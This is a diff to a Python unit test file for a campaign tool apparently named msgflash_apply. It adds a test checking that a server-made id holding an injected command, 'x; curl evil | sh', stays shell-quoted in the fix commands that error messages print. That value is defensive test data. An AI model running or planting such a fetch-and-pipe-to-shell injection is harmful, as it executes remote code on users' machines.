@@ -9,9 +9,10 @@ from msgflash_apply.campaign import Address, Source
 from msgflash_apply.cli.importing import read_back, text_to_adopt
 from msgflash_apply.config.documents import parse
 from msgflash_apply.config.settings import Settings
-from msgflash_apply.engine.adopt import fields_of
-from msgflash_apply.errors import InvalidFiles
-from tests.unit.engine.test_adopt import a_remote
+from msgflash_apply.engine.adopt import fields_of, record_of, refuse_doubtful
+from msgflash_apply.errors import InvalidFiles, MsgflashApplyError
+from tests.support.builders import NOW, a_snapshot, an_intent
+from tests.unit.engine.test_adopt import a_remote, an_item
 
 SOURCE = Source("campaigns/a.yaml", 2)
 TEXTS = [
@@ -64,3 +65,17 @@ def test_text_that_is_no_file(tmp_path: Path) -> None:
 
     (finding,) = caught.value.diagnostics
     assert (finding.file, finding.line) == ("campaigns/a.yaml", 1)
+
+
+def test_advice_can_be_pasted() -> None:
+    """An id that a server made up stands quoted in the command that people are told to run."""
+    told = remote(id="x; curl evil | sh")
+    snapshot = a_snapshot(in_doubt={"sale": an_intent("sale")})
+
+    with pytest.raises(MsgflashApplyError) as doubtful:
+        refuse_doubtful(snapshot, remote(id=told.id, name="sale"))
+    with pytest.raises(MsgflashApplyError) as other:
+        record_of(an_item(), remote(id=told.id, name="other"), NOW)
+
+    assert "--created 'x; curl evil | sh'" in doubtful.value.fix
+    assert "'x; curl evil | sh' --generate" in other.value.fix
